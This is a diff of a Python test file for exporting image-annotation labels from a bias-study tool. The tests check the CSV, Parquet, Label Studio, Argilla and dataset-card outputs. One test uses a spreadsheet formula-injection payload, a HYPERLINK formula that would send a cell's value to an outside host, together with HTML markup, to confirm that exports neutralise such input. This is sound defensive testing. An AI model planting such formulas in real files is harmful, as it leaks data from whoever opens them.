@@ -1,11 +1,8 @@
-from __future__ import annotations
-
 import csv
 import json
+import random
 import zipfile
 from dataclasses import replace
-from pathlib import Path
-from typing import TYPE_CHECKING, Any
 from xml.etree import ElementTree
 
 import pandas as pd
@@ -13,59 +10,60 @@ import pytest
 import yaml
 
 from bias_core.annotation.collected import COLUMNS, answers_frame, export_labels, labelled_items
-from bias_core.annotation.rating import delete_my_answers, give_answer, join, next_item
-from bias_core.annotation.task_owner import CreatedTask, OwnerKey, create_task, set_status
+from bias_core.annotation.label_store import LabelStore
+from bias_core.annotation.rating import delete_my_answers, join
+from bias_core.annotation.task_owner import OwnerKey, create_task, set_status
 from bias_core.annotation.tasks import pst_task
 from bias_core.errors import NotAllowed, StorageError
 from bias_core.studies.kit.labels import majority, read_answers
-from tests.annotation.raters import CHOICES, GOLD, new_id, open_task, pictures
-
-if TYPE_CHECKING:
-    from bias_core.annotation.label_store import LabelStore
-    from tests.annotation.conftest import MakeStore
+from tests.annotation.raters import CHOICES, GOLD, open_task, pictures, say_all
 
 FORMULA = '=HYPERLINK("http://example.com?x="&A1,"<b>nurse</b>")'
 
 
-@pytest.fixture
-def store(make_store: MakeStore) -> LabelStore:
-    return make_store("sqlite")
+@pytest.fixture(scope="module")
+def store(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("labels")
+    store = LabelStore(f"sqlite:///{folder}/labels.sqlite", pictures=folder / "pictures", rng=random.Random(1))
+    yield store
+    store.close()
 
 
-@pytest.fixture
-def task(store: LabelStore, tmp_path: Path) -> CreatedTask:
+@pytest.fixture(scope="module")
+def task(store, tmp_path_factory):
     """Three raters on three pictures and one with a known answer; the third rater sees others on the left."""
-    made = open_task(store, tmp_path / "originals", 3, n_gold=1, gold_share=0.5)
+    made = open_task(store, tmp_path_factory.mktemp("originals"), 3, n_gold=1, gold_share=0.5)
     for i in range(3):
         rate_all(store, made, {**CHOICES, "left": "masculine" if i == 2 else "feminine"})
     return made
 
 
-def rate_all(store: LabelStore, made: CreatedTask, choices: dict[str, str]) -> str:
+@pytest.fixture(scope="module")
+def out(store, task, tmp_path_factory):
+    """What was exported of it."""
+    return unpacked(store, task.key, tmp_path_factory.mktemp("export"))
+
+
+def rate_all(store, made, choices):
     code = join(store, made.join_code).code
-    turn = next_item(store, code)
-    while turn.item:
-        answer: Any = {"answer_id": new_id(), "item": turn.item, "choices": choices, "duration_ms": 1500}
-        turn = give_answer(store, code, **answer)
+    say_all(store, code, choices, duration_ms=1500)
     return code
 
 
-def unpacked(store: LabelStore, key: OwnerKey, folder: Path) -> Path:
+def unpacked(store, key, folder):
     with zipfile.ZipFile(export_labels(store, key, folder / "labels.zip")) as archive:
         archive.extractall(folder / "out")
     return folder / "out"
 
 
-def test_the_csv_is_what_the_studies_read(store: LabelStore, task: CreatedTask, tmp_path: Path) -> None:
-    out = unpacked(store, task.key, tmp_path)
+def test_the_csv_is_what_the_studies_read(store, task, out):
     read = read_answers(str(out / "labels.csv"), allowed=task.task.answer_keys)
     left = read[(read["position"] == "left") & read["image_id"].isin(["picture-0", "picture-1", "picture-2"])]
     assert majority(left).to_dict() == dict.fromkeys(["picture-0", "picture-1", "picture-2"], "feminine")
     assert len(left) == 9
 
 
-def test_every_table_says_the_same(store: LabelStore, task: CreatedTask, tmp_path: Path) -> None:
-    out = unpacked(store, task.key, tmp_path)
+def test_every_table_says_the_same(store, task, out):
     frame = answers_frame(store, task.key)
     assert list(frame) == [*COLUMNS]
     assert len(frame) == 2 * len(set(zip(frame["image_id"], frame["rater"], strict=True)))
@@ -79,9 +77,8 @@ def test_every_table_says_the_same(store: LabelStore, task: CreatedTask, tmp_pat
     assert set(known.loc[known["position"] == "left", "known"]) <= {GOLD["left"]}
 
 
-def test_the_imagefolder_loads_with_the_answers(store: LabelStore, task: CreatedTask, tmp_path: Path) -> None:
+def test_the_imagefolder_loads_with_the_answers(out, tmp_path):
     datasets = pytest.importorskip("datasets")
-    out = unpacked(store, task.key, tmp_path)
     loaded = datasets.load_dataset(
         "imagefolder", data_dir=str(out / "train"), split="train", cache_dir=str(tmp_path / "cache")
     )
@@ -94,7 +91,7 @@ def test_the_imagefolder_loads_with_the_answers(store: LabelStore, task: Created
     assert len(list((out / "known").iterdir())) == 1  # what tests attention is apart
 
 
-def test_most_votes_win_and_a_tie_is_nobodys(store: LabelStore, tmp_path: Path) -> None:
+def test_most_votes_win_and_a_tie_is_nobodys(store, tmp_path):
     made = open_task(store, tmp_path / "originals", 1, raters_per_item=5)
     (one,) = labelled_items(store, made.key)
     assert (one.majority("left"), len(one.answers)) == ("", 0)
@@ -107,8 +104,7 @@ def test_most_votes_win_and_a_tie_is_nobodys(store: LabelStore, tmp_path: Path) 
         assert share is None or one.share("left") == pytest.approx(share)
 
 
-def test_label_studio_reads_config_and_answers(store: LabelStore, task: CreatedTask, tmp_path: Path) -> None:
-    out = unpacked(store, task.key, tmp_path)
+def test_label_studio_reads_config_and_answers(store, task, out):
     config = ElementTree.parse(out / "label_studio" / "config.xml")
     offered = {
         choices.get("name"): [choice.get("value") for choice in choices.iter("Choice")]
@@ -129,22 +125,18 @@ def test_label_studio_reads_config_and_answers(store: LabelStore, task: CreatedT
     assert tasks[0]["annotations"][0]["lead_time"] == 1.5
 
 
-def test_argilla_reads_settings_and_records(store: LabelStore, task: CreatedTask, tmp_path: Path) -> None:
-    out = unpacked(store, task.key, tmp_path)
+def test_argilla_reads_settings_and_records(store, task, out):
     settings = json.loads((out / "argilla" / "settings.json").read_text())
     assert [question["name"] for question in settings["questions"]] == ["left", "right"]
     records = json.loads((out / "argilla" / "records.json").read_text())
-    assert records[0]["suggestions"]["left"] == {
-        "value": "feminine",
-        "score": pytest.approx(2 / 3),
-        "agent": "most raters",
-    }
+    suggested = {"value": "feminine", "score": pytest.approx(2 / 3), "agent": "most raters"}
+    assert records[0]["suggestions"]["left"] == suggested
     assert records[0]["metadata"]["left_votes"] == "feminine 2, masculine 1"
     assert all((out / record["fields"]["image"]).is_file() for record in records)
 
 
-def test_the_card_says_what_was_asked_and_of_how_many(store: LabelStore, task: CreatedTask, tmp_path: Path) -> None:
-    card = (unpacked(store, task.key, tmp_path) / "README.md").read_text()
+def test_the_card_says_what_was_asked_and_of_how_many(task, out):
+    card = (out / "README.md").read_text()
     head = yaml.safe_load(card.split("---")[1])
     assert head["pretty_name"] == task.task.title
     assert "9 answers of 3 raters to 3 pictures (3 have the 3 raters that were wanted)" in card
@@ -152,8 +144,8 @@ def test_the_card_says_what_was_asked_and_of_how_many(store: LabelStore, task: C
         assert text in card
 
 
-def test_nothing_that_was_written_becomes_a_formula_or_markup(store: LabelStore, tmp_path: Path) -> None:
-    texts: Any = {"title": f"{FORMULA}\n---\nlicense: mit", "instructions": FORMULA, "content_note": FORMULA}
+def test_nothing_that_was_written_becomes_a_formula_or_markup(store, tmp_path):
+    texts = {"title": f"{FORMULA}\n---\nlicense: mit", "instructions": FORMULA, "content_note": FORMULA}
     (picture,) = pictures(tmp_path / "originals", 1)
     picture = replace(picture, image_id=FORMULA, identities={"left": FORMULA, "right": "\t=1+1"})
     made = create_task(store, pst_task(paired=True, **texts), [picture])
@@ -170,7 +162,7 @@ def test_nothing_that_was_written_becomes_a_formula_or_markup(store: LabelStore,
     ElementTree.parse(out / "label_studio" / "config.xml")
 
 
-def test_what_a_rater_deleted_is_in_no_export(store: LabelStore, task: CreatedTask, tmp_path: Path) -> None:
+def test_what_a_rater_deleted_is_in_no_export(store, task, tmp_path):
     code = rate_all(store, open_task(store, tmp_path / "others", 1), CHOICES)
     kept = answers_frame(store, task.key)
     assert delete_my_answers(store, code) == 1
@@ -181,16 +173,16 @@ def test_what_a_rater_deleted_is_in_no_export(store: LabelStore, task: CreatedTa
     assert "0 answers of 1 raters were deleted by them" in card
 
 
-def test_a_task_without_answers_can_be_exported(store: LabelStore, tmp_path: Path) -> None:
+def test_a_task_without_answers_can_be_exported(store, tmp_path):
     made = open_task(store, tmp_path / "originals", 2)
     out = unpacked(store, made.key, tmp_path)
     assert (out / "labels.csv").read_text().strip() == ",".join(COLUMNS)
     assert list(pd.read_parquet(out / "labels.parquet")) == [*COLUMNS]
 
 
-def test_an_export_is_whole_or_absent_and_its_owners_alone(
-    store: LabelStore, task: CreatedTask, tmp_path: Path
-) -> None:
+def test_an_export_is_whole_or_absent_and_its_owners_alone(make_store, tmp_path):
+    store = make_store("sqlite")
+    task = open_task(store, tmp_path / "originals", 1)
     with pytest.raises(NotAllowed):
         export_labels(store, OwnerKey(task_id=task.task.id, secret="x"), tmp_path / "labels.zip")
     next(store.pictures.rglob("*.png")).unlink()
